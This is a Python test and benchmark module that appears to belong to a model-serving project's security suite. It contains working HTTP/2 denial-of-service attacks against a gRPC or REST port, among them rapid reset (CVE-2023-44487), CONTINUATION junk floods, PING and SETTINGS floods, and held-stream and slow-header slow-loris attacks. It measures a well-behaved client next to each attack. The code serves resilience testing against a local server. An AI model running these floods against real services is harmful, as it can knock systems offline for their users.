"""The HTTP/2 attacks of 2023–2024 on a gRPC port, a peer holding many REST connections, and a normal client of
each port measured beside them.

Each attack runs on raw sockets from its own source address (ATTACKER, another loopback address than the normal
client's 127.0.0.1, so that the server sees two peers as on a real network), written with the `h2` library's frames
(hyperframe, hpack): rapid reset (HEADERS then RST_STREAM at once, CVE-2023-44487), CONTINUATION frames of junk
that never end a header block, PING and SETTINGS floods whose ACKs are never read, and held streams (calls opened
and kept alive with empty DATA frames, their message never finished: a slow-loris for gRPC, reopened as the server
ends them). `Normal` is a well-behaved client: TF Serving's stubs, a Predict every 50 ms with a 2 s deadline;
`NormalRest` the same over REST. `slow_heads` is one REST connection's slow-loris (a request head a byte at a
time, opened again as the server closes it). Used by benchmarks/peer_attacks.py (the tables of docs/security.md),
tests/e2e/test_grpc_fairness.py and tests/e2e/test_front_end_floods.py.
"""
from __future__ import annotations

import collections
import functools
import multiprocessing
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

if TYPE_CHECKING:  # grpc and the stubs only where the normal client runs, not in the attacking process
    from tensorflow_serving.apis import predict_pb2

ATTACKER = "127.0.0.2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PREDICT = "/tensorflow.serving.PredictionService/Predict"
CANCEL = 0x8


def connect(target: str, source: str) -> socket.socket:
    """A TCP connection to `target` ("host:port") from `source`'s address."""
    host, port = target.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=5, source_address=(source, 0))


def grpc_headers(target: str, token: str | None = None) -> list[tuple[str, str]]:
    """A gRPC call's request headers, as a grpc client sends them."""
    return [(":method", "POST"), (":scheme", "http"), (":path", PREDICT), (":authority", target),
            ("content-type", "application/grpc"), ("te", "trailers"),
            *([("authorization", f"Bearer {token}")] if token else [])]


def raw(target: str, source: str) -> socket.socket:
    """A connection that has sent the client preface and its SETTINGS, and reads nothing."""
    sock = connect(target, source)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def _drain(sock: socket.socket) -> None:
    """Read and drop what the server sent (a rapid-reset client reads its answers, as a browser would)."""
    sock.setblocking(False)
    try:
        while sock.recv(1 << 16):
            pass
    except (BlockingIOError, InterruptedError):
        pass
    finally:
        sock.setblocking(True)


def rapid_reset(target: str, source: str, stop: threading.Event, token: str | None) -> None:
    """HEADERS then RST_STREAM(CANCEL) at once, 100 streams a write, on one connection until `stop`."""
    sock, encoder, stream = raw(target, source), hpack.Encoder(), 1
    while not stop.is_set():
        batch = []
        for _ in range(100):
            headers = HeadersFrame(stream, encoder.encode(grpc_headers(target, token)))
            headers.flags.add("END_HEADERS")
            batch += [headers.serialize(), RstStreamFrame(stream, error_code=CANCEL).serialize()]
            stream += 2
        sock.sendall(b"".join(batch))
        _drain(sock)
    sock.close()


def continuation(target: str, source: str, stop: threading.Event, token: str | None) -> None:
    """A HEADERS frame that does not end its block, then CONTINUATION frames of junk headers until `stop`: 8 frames
    of 14 KiB every 10 ms (11 MiB/s), so that on a small test machine the attacker does not simply take the
    server's cores."""
    sock, encoder = raw(target, source), hpack.Encoder()
    sock.sendall(HeadersFrame(1, encoder.encode(grpc_headers(target, token))).serialize())
    junk = ContinuationFrame(1, hpack.Encoder().encode([(f"x-junk-{i}", "j" * 200) for i in range(70)])).serialize()
    while not stop.wait(0.01):
        sock.sendall(junk * 8)
    sock.close()


def ping_flood(target: str, source: str, stop: threading.Event, token: str | None) -> None:
    """PING frames until `stop`, their ACKs never read."""
    sock = raw(target, source)
    pings = b"".join(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize() for i in range(1000))
    _until_blocked(sock, pings, stop)


def settings_flood(target: str, source: str, stop: threading.Event, token: str | None) -> None:
    """SETTINGS frames until `stop`, their ACKs never read."""
    sock = raw(target, source)
    settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 1000
    _until_blocked(sock, settings, stop)


def _until_blocked(sock: socket.socket, data: bytes, stop: threading.Event) -> None:
    """Write `data` over and over until `stop`; a write the server does not take in time (it stopped reading: the
    flood worked, or it closed the connection) ends it."""
    sock.settimeout(0.5)
    try:
        while not stop.is_set():
            try:
                sock.sendall(data)
            except TimeoutError:
                stop.wait(0.1)
    except OSError:
        pass
    finally:
        sock.close()


def held_streams(streams: int) -> Callable[[str, str, threading.Event, str | None], None]:
    """Up to `streams` calls on one connection (as many as the server's MAX_CONCURRENT_STREAMS allows), each kept
    alive by an empty DATA frame every 0.5 s and never finishing its message; each call the server ends is opened
    again at once, until `stop`."""
    return functools.partial(_held_streams, streams)


def _held_streams(streams: int, target: str, source: str, stop: threading.Event, token: str | None) -> None:
    sock = connect(target, source)
    h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    h2c.initiate_connection()
    sock.sendall(h2c.data_to_send())
    sock.settimeout(0.1)
    held: set[int] = set()

    def reopen() -> None:
        while len(held) < streams:
            try:
                stream = h2c.get_next_available_stream_id()
                h2c.send_headers(stream, grpc_headers(target, token))
            except h2.exceptions.TooManyStreamsError:
                return
            h2c.send_data(stream, b"\x00\x00\x00\x00\x10")  # a 16-byte message declared, none of it sent
            held.add(stream)
    try:
        while not stop.is_set():
            reopen()
            for stream in held:
                h2c.send_data(stream, b"")
            sock.sendall(h2c.data_to_send())
            until = time.monotonic() + 0.5
            while time.monotonic() < until and not stop.is_set():
                try:
                    data = sock.recv(1 << 16)
                except TimeoutError:
                    continue
                if not data:
                    return
                for event in h2c.receive_data(data):
                    if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                        held.discard(event.stream_id)
                reopen()
                sock.sendall(h2c.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        return
    finally:
        sock.close()


ATTACKS: dict[str, tuple[Callable[[str, str, threading.Event, str | None], None], int]] = {
    # name: (one connection's attack, connections)
    "rapid_reset": (rapid_reset, 4),
    "continuation": (continuation, 4),
    "ping_flood": (ping_flood, 2),
    "settings_flood": (settings_flood, 2),
    "held_streams": (held_streams(100), 16),
    "held_streams_64": (held_streams(64), 64),
}


def slow_heads(target: str, source: str, stop: threading.Event, token: str | None) -> None:
    """A REST request head sent a byte every 0.5 s on one connection to `target` ("host:port"), opened again
    whenever the server closes it, until `stop`."""
    head = b"POST /v1/models/flowers:predict HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 1000
    while not stop.is_set():
        try:
            with connect(target, source) as sock:
                for byte in head:
                    if stop.wait(0.5):
                        return
                    sock.sendall(bytes((byte,)))
        except OSError:  # closed by the server: open another
            stop.wait(0.05)


@dataclass
class Calls:
    """What a normal client's calls got: each call's code ("OK" or an HTTP status; "none": no answer) and seconds."""
    results: list[tuple[str, float]] = field(default_factory=list)

    @property
    def ok(self) -> int:
        return sum(1 for code, _ in self.results if code in ("OK", "200"))

    @property
    def worst_s(self) -> float:
        return max((seconds for _, seconds in self.results), default=0.0)

    def codes(self) -> dict[str, int]:
        return dict(collections.Counter(code for code, _ in self.results if code not in ("OK", "200")))

    def summary(self) -> str:
        failed = ", ".join(f"{n} {code}" for code, n in sorted(self.codes().items()))
        return (f"{self.ok} of {len(self.results)} ok (worst {self.worst_s:.2f} s)"
                + (f": {failed}" if failed else ""))


class Client:
    """A well-behaved client: a call every `every_s` with a `deadline_s` deadline, each answered or failed before
    the next."""

    def __init__(self, every_s: float, deadline_s: float) -> None:
        self.every_s, self.deadline_s = every_s, deadline_s

    def call(self) -> tuple[str, float]:
        raise NotImplementedError

    def calls(self, seconds: float) -> Calls:
        """Calls for `seconds`, one every `every_s`."""
        calls, until = Calls(), time.monotonic() + seconds
        while (now := time.monotonic()) < until:
            calls.results.append(self.call())
            time.sleep(max(0.0, self.every_s - (time.monotonic() - now)))
        return calls

    def close(self) -> None:
        pass


class Normal(Client):
    """TF Serving's stubs on their own channel: Predict."""

    def __init__(self, target: str, request: predict_pb2.PredictRequest, token: str | None = None,
                 every_s: float = 0.05, deadline_s: float = 2.0) -> None:
        import grpc
        from tensorflow_serving.apis import prediction_service_pb2_grpc

        super().__init__(every_s, deadline_s)
        self.channel = grpc.insecure_channel(target, options=[("grpc.max_receive_message_length", 64 << 20)])
        self.stub = prediction_service_pb2_grpc.PredictionServiceStub(self.channel)
        self.request = request
        self.metadata = [("authorization", f"Bearer {token}")] if token else None

    def call(self) -> tuple[str, float]:
        import grpc

        started = time.monotonic()
        try:
            self.stub.Predict(self.request, timeout=self.deadline_s, metadata=self.metadata)
            code = "OK"
        except grpc.RpcError as err:
            code = err.code().name
        return code, time.monotonic() - started

    def close(self) -> None:
        self.channel.close()


class NormalRest(Client):
    """A keep-alive session posting `body` (a predict) to `url`."""

    def __init__(self, url: str, body: bytes, every_s: float = 0.05, deadline_s: float = 2.0) -> None:
        import requests

        super().__init__(every_s, deadline_s)
        self.session, self.url, self.body = requests.Session(), url, body

    def call(self) -> tuple[str, float]:
        import requests

        started = time.monotonic()
        try:
            code = str(self.session.post(self.url, data=self.body, timeout=self.deadline_s,
                                         headers={"Content-Type": "application/json"}).status_code)
        except requests.RequestException:
            code = "none"
        return code, time.monotonic() - started

    def close(self) -> None:
        self.session.close()


class Attack:
    """`connections` connections of one attack from `source`, each on its own thread, until `end`: in a process of
    their own, so that the attacker's Python never holds up the measuring client's (in one process, 64 connections
    of held streams delayed a normal client's calls by up to 1.4 s; from another, 0.2 s at most)."""

    def __init__(self, target: str, attack: Callable[[str, str, threading.Event, str | None], None],
                 connections: int, source: str = ATTACKER, token: str | None = None) -> None:
        context = multiprocessing.get_context("spawn")
        self.stop, ready = context.Event(), context.Event()
        self.process = context.Process(target=_attacker, args=(target, attack, connections, source, token, self.stop,
                                                               ready), daemon=True)
        self.process.start()
        ready.wait(60)

    def end(self) -> None:
        self.stop.set()
        self.process.join(20)
        if self.process.is_alive():
            self.process.kill()
            self.process.join()


def _attacker(target: str, attack: Callable[[str, str, threading.Event, str | None], None], connections: int,
              source: str, token: str | None, stop: threading.Event, ready: threading.Event) -> None:
    """The attacking process: each connection on its own thread; `ready` once all have started."""
    def run() -> None:
        try:
            attack(target, source, stop, token)
        except OSError:  # refused or cut by the server
            pass

    threads = [threading.Thread(target=run, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    stop.wait(0.5)
    ready.set()
    for thread in threads:
        thread.join(10)
